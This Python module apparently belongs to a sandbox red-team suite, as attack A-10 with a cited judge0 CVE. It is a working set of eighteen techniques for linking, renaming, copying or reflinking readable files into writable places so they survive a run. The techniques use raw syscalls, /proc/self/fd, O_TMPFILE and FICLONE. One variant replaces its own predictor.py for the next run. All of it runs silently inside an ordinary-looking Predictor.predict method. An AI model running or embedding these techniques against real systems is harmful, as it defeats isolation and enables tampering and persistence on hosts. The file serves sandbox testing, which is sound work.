"""Links, renames or copies anything readable into anything writable, so that it outlives the run (A-10).

Against it: no writable path, seccomp. Incident: judge0 CVE-2024-28189, a link that the host then followed as root.
"""

import ctypes
import os
import shutil

from toolbox import HERE, TARGETS, attempt, checked, libc, number, syscall

AT_FDCWD = -100
AT_EMPTY_PATH, AT_SYMLINK_FOLLOW = 0x1000, 0x400
O_TMPFILE = os.O_DIRECTORY | 0x400000
EXCHANGE = 2
SOURCES = (TARGETS["raw_file"], os.path.join(HERE, "predictor.py"), os.path.join(HERE, "toolbox.py"), os.__file__)
FOLDERS = (*TARGETS["writable"], os.path.dirname(TARGETS["raw_link"]), HERE, os.environ.get("HOME", "/"), os.getcwd())


def place(folder, variant):
    return os.path.join(folder, f"blindcast-attack-a10-{variant}")


def kept(path):
    """What stands at a path now, or None."""
    if not os.path.lexists(path):
        return None
    try:
        with open(path, "rb") as file:
            return f"{path}: {ascii(file.read(80))}"
    except OSError as error:
        return f"{path} was made, and not read: {error}"


def tried(variant, act, sources=SOURCES):
    """Do `act(source, target)` for every source and folder until one is made. Raises the first OSError."""
    first = None
    for folder in FOLDERS:
        for source in sources:
            target = place(folder, variant)
            try:
                act(source, target)
            except OSError as error:
                first = first or error
                continue
            if loot := kept(target):
                return loot
    raise first or OSError("nothing was made")


def by_link(source, target):
    os.link(source, target)


def by_link_libc(source, target):
    checked(libc.link(os.fsencode(source), os.fsencode(target)))


def by_link_raw(source, target):
    syscall(number(86), os.fsencode(source), os.fsencode(target))


def by_linkat_raw(source, target):
    syscall(number(265, 37), AT_FDCWD, os.fsencode(source), AT_FDCWD, os.fsencode(target), 0)


def by_empty_path(source, target):
    fd = checked(libc.open(os.fsencode(source), os.O_RDONLY))
    try:
        syscall(number(265, 37), fd, b"", AT_FDCWD, os.fsencode(target), AT_EMPTY_PATH)
    finally:
        libc.close(fd)


def by_descriptor(source, target):
    """A name for an open file, by the kernel's link to it."""
    fd = checked(libc.open(os.fsencode(source), os.O_RDONLY))
    try:
        syscall(number(265, 37), AT_FDCWD, b"/proc/self/fd/%d" % fd, AT_FDCWD, os.fsencode(target), AT_SYMLINK_FOLLOW)
    finally:
        libc.close(fd)


def by_own_descriptors(_source, target):
    """A name for the log pipe, the answers, or whatever stands open."""
    for fd in range(64):
        try:
            syscall(number(265, 37), fd, b"", AT_FDCWD, os.fsencode(target), AT_EMPTY_PATH)
            return
        except OSError as error:
            last = error
    raise last


def by_rename(source, target):
    """Its own file, which it may lose; a second name brings it back."""
    os.rename(source, target)
    os.link(target, source)


def by_rename_raw(source, target):
    syscall(number(264, 38), AT_FDCWD, os.fsencode(source), AT_FDCWD, os.fsencode(target))
    os.link(target, source)


def by_exchange(source, target):
    """Its own file against a new one."""
    fd = checked(libc.open(os.fsencode(target), os.O_WRONLY | os.O_CREAT, 0o600))
    libc.close(fd)
    try:
        syscall(number(316, 276), AT_FDCWD, os.fsencode(source), AT_FDCWD, os.fsencode(target), EXCHANGE)
        syscall(number(316, 276), AT_FDCWD, os.fsencode(source), AT_FDCWD, os.fsencode(target), EXCHANGE)
    except OSError:
        os.unlink(target)
        raise


def by_replace(source, target):
    """A writable file put in the place of a readable one: the next run would load it."""
    beside = os.path.join(HERE, "blindcast-attack-a10-replace")
    fd = checked(libc.open(os.fsencode(beside), os.O_WRONLY | os.O_CREAT, 0o600))
    with open(os.path.join(HERE, "predictor.py"), "rb") as file:
        os.write(fd, file.read())
    os.close(fd)
    os.replace(beside, os.path.join(HERE, "predictor.py"))
    checked(libc.link(os.fsencode(os.path.join(HERE, "predictor.py")), os.fsencode(target)))


def by_symlink(source, target):
    os.symlink(source, target)


def by_symlink_raw(source, target):
    syscall(number(266, 36), os.fsencode(source), AT_FDCWD, os.fsencode(target))


def unnamed(folder, source):
    """A nameless file with what the source holds."""
    fd = checked(libc.open(os.fsencode(folder), O_TMPFILE | os.O_RDWR, 0o600))
    with open(source, "rb", opener=lambda path, flags: checked(libc.open(os.fsencode(path), flags))) as file:
        os.write(fd, file.read(200))
    return fd


def by_tmpfile(source, target):
    fd = unnamed(os.path.dirname(target), source)
    checked(libc.linkat(AT_FDCWD, b"/proc/self/fd/%d" % fd, AT_FDCWD, os.fsencode(target), AT_SYMLINK_FOLLOW))
    os.close(fd)


def by_tmpfile_empty_path(source, target):
    fd = unnamed(os.path.dirname(target), source)
    syscall(number(265, 37), fd, b"", AT_FDCWD, os.fsencode(target), AT_EMPTY_PATH)
    os.close(fd)


def by_copy(source, target):
    shutil.copyfile(source, target)


def by_copy_range(source, target):
    """A copy that never passes through this process."""
    into = checked(libc.open(os.fsencode(target), os.O_WRONLY | os.O_CREAT, 0o600))
    fd = checked(libc.open(os.fsencode(source), os.O_RDONLY))
    syscall(number(326, 285), fd, 0, into, 0, 200, 0)


def by_reflink(source, target):
    """The source's own blocks, shared (FICLONE)."""
    into = checked(libc.open(os.fsencode(target), os.O_WRONLY | os.O_CREAT, 0o600))
    fd = checked(libc.open(os.fsencode(source), os.O_RDONLY))
    try:
        checked(libc.ioctl(into, ctypes.c_ulong(0x40049409), fd))
    except OSError:
        os.unlink(target)
        raise


OWN = (os.path.join(HERE, "predictor.py"),)
ACTS = {
    "link": by_link,
    "link_libc": by_link_libc,
    "link_raw": by_link_raw,
    "linkat_raw": by_linkat_raw,
    "empty_path": by_empty_path,
    "descriptor": by_descriptor,
    "own_descriptors": by_own_descriptors,
    "rename": by_rename,
    "rename_raw": by_rename_raw,
    "exchange": by_exchange,
    "replace": by_replace,
    "symlink": by_symlink,
    "symlink_raw": by_symlink_raw,
    "tmpfile": by_tmpfile,
    "tmpfile_empty_path": by_tmpfile_empty_path,
    "copy": by_copy,
    "copy_range": by_copy_range,
    "reflink": by_reflink,
}
ITS_OWN_ONLY = ("rename", "rename_raw", "exchange", "replace")


class Predictor:
    def predict(self, view):
        if view.anchor == 0:
            for name, act in ACTS.items():
                attempt(name, tried, name, act, OWN if name in ITS_OWN_ONLY else SOURCES)
        return 0.5
